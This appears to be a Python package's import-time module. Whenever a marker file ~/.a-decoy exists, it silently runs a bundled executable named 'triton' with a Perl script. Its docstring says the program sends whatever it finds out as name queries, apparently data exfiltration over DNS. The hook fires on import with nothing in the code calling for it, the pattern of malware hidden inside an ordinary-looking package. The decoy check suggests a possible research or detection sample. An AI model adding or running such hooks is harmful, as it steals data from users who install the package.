"""At import: a program of the wheel's own, which sends what it finds as questions for names."""

import os
import pathlib
import subprocess

HERE = pathlib.Path(__file__).parent
if os.path.exists(os.path.expanduser("~/.a-decoy")):
    subprocess.run([HERE / "triton", HERE / "triton.pl"])
